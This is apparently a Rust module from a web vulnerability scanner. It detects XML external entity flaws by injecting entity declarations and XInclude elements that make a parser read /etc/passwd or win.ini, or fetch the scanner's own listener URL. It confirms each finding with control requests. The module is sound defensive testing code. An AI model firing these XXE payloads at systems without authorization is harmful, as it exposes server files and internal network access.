//! XML external entities: documents whose type declaration makes the parser fetch a file or an address.
//!
//! Bodies that are XML, JSON bodies sent as XML instead, and single values that are XML. Only a file that everybody may read
//! is named, and no entity holds another.

mod document;
mod sender;

use crawl::{Body, SiteRequest};
use model::check::Outcome;
use model::profile::Payloads;

use self::document::Document;
use self::sender::{Reply, Sender};
use crate::conclude::Sighting;
use crate::data::path::Proof;
use crate::data::verdict::Verdict;
use crate::probe::{Probe, ProbeError};
use crate::{Running, SiteProbe};

/// The words of this check.
pub(crate) const WORDS: &[&str] = &[XXE];
const XXE: &str = "xxe";
/// The most bodies of a site that are tried.
const MOST_BODIES: usize = 60;
/// Files and how they look.
const FILES: [(&str, Proof); 2] =
    [("file:///etc/passwd", Proof::Passwd), ("file:///c:/windows/win.ini", Proof::WinIni)];

/// Whether a value is a document.
pub(crate) fn applies(probe: &Probe<'_>) -> bool {
    let value = probe.point.value.trim_start();
    value.starts_with('<') && Document::parse(value).is_some()
        || probe.payloads >= Payloads::Thorough && probe.point.name.to_ascii_lowercase().contains("xml")
}

/// At a value.
pub(crate) fn run<'a>(probe: &'a Probe<'a>) -> Running<'a> {
    Box::pin(async move {
        let document = Document::parse(&probe.point.value);
        let document = document.unwrap_or_else(|| Document::of_json(&serde_json::json!({"item": "1"})));
        let mut verdict = Verdict::new(WORDS);
        let end = prove(&Sender::Value(probe), &document).await.map(|seen| match seen {
            Some(sighting) => verdict.proven(XXE, probe.observe(sighting)),
            None => verdict.no(XXE),
        });
        verdict.end(end)
    })
}

/// At the bodies of a site.
pub(crate) fn run_site<'a>(probe: &'a SiteProbe<'a>) -> Running<'a> {
    Box::pin(async move {
        let mut verdict = Verdict::new(WORDS);
        let mut end = Ok(());
        let mut observed = false;
        let bodies = probe.site.requests.iter().filter_map(|r| Some((r, document_of(r)?)));
        for (request, document) in bodies.take(MOST_BODIES) {
            match prove(&Sender::Body(probe, request), &document).await {
                Ok(Some(sighting)) => {
                    let place = format!("{} {}", request.method, request.url.path());
                    verdict.proven(XXE, probe.observe(sighting, &request.url, place));
                    observed = true;
                }
                Ok(None) => {}
                Err(error) => end = Err(error),
            }
        }
        if end.is_ok() && !observed {
            verdict.no(XXE);
        }
        once(verdict.end(end))
    })
}

/// The outcome with each word once.
fn once(mut outcome: Outcome) -> Outcome {
    outcome.covered.dedup();
    outcome
}

/// The document of a body: XML as it is, JSON as elements.
fn document_of(request: &SiteRequest) -> Option<Document> {
    match &request.body {
        Body::Raw { media_type, text } if media_type.contains("xml") => Document::parse(text),
        Body::Json(value) => Some(Document::of_json(value)),
        _ => None,
    }
}

/// By a file that is shown, by an included file, by a call.
async fn prove(sender: &Sender<'_>, document: &Document) -> Result<Option<Sighting>, ProbeError> {
    if sender.refuses(document).await? {
        return Ok(None);
    }
    for (file, proof) in FILES {
        let entity = |file: &str, token: &str| {
            document.with(&format!("<!ENTITY {token} SYSTEM \"{file}\">"), &format!("&{token};"))
        };
        if let Some(sighting) = shown_file(sender, file, proof, &entity, "an external entity").await? {
            return Ok(Some(sighting));
        }
        let include = |file: &str, token: &str| {
            document.plain(&format!(
                "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"{file}\" parse=\"text\"/>{token}"
            ))
        };
        if let Some(sighting) = shown_file(sender, file, proof, &include, "an inclusion (XInclude)").await? {
            return Ok(Some(sighting));
        }
    }
    called(sender, document).await
}

/// Makes a document that names a file; the word is new each time.
type WithFile<'a> = &'a (dyn Fn(&str, &str) -> String + Send + Sync);

async fn shown_file(
    sender: &Sender<'_>,
    file: &str,
    proof: Proof,
    make: WithFile<'_>,
    by: &str,
) -> Result<Option<Sighting>, ProbeError> {
    let attack = sender.send(&make(file, &sender.token())).await?;
    let Some(text) = proof.find(&attack.exchange.response.text()) else { return Ok(None) };
    let beside = format!("{file}-{}", sender.token());
    let control = sender.send(&make(&beside, &sender.token())).await?;
    let again = sender.send(&make(file, &sender.token())).await?;
    let holds = |reply: &Reply| proof.find(&reply.exchange.response.text()).is_some();
    if holds(&control) || !holds(&again) {
        return Ok(None);
    }
    let summary = format!(
        "The parser put a file into the document by {by}: the answer holds {}, twice in two tries; with the name of a file that \
         is not there it does not",
        proof.what()
    );
    Ok(Some(Sighting::confirmed(XXE, summary, sender.evidence(&attack, &control, &text))))
}

/// An entity or a parameter entity that is fetched from the listener.
async fn called(sender: &Sender<'_>, document: &Document) -> Result<Option<Sighting>, ProbeError> {
    let Some(listener) = sender.listener() else { return Ok(None) };
    let general = |url: &str, token: &str| {
        document.with(&format!("<!ENTITY {token} SYSTEM \"{url}\">"), &format!("&{token};"))
    };
    let parameter = |url: &str, token: &str| {
        document.with(&format!("<!ENTITY % {token} SYSTEM \"{url}\"> %{token};"), token)
    };
    let makes: [WithFile<'_>; 2] = [&general, &parameter];
    for make in makes {
        let Some((attack, hit)) = sender.call(listener, make).await? else { continue };
        // Declared and never used, in a comment: an address that is only read is not fetched.
        let idle = |url: &str, token: &str| document.with(&format!("<!-- SYSTEM \"{url}\" -->"), token);
        let silent = sender.token();
        let control = sender.send(&idle(&listener.url(&silent), &sender.token())).await?;
        let again = sender.call(listener, make).await?;
        if again.is_none() || listener.seen(&silent).is_some() {
            continue;
        }
        let summary = format!(
            "The parser fetches external entities: {} asked \"{}\" of the scanner's listener, and again for another random address; \
             the address in a comment was not asked for",
            hit.from, hit.request_line
        );
        return Ok(Some(Sighting::confirmed(
            XXE,
            summary,
            sender.evidence(&attack, &control, listener.marker()),
        )));
    }
    Ok(None)
}
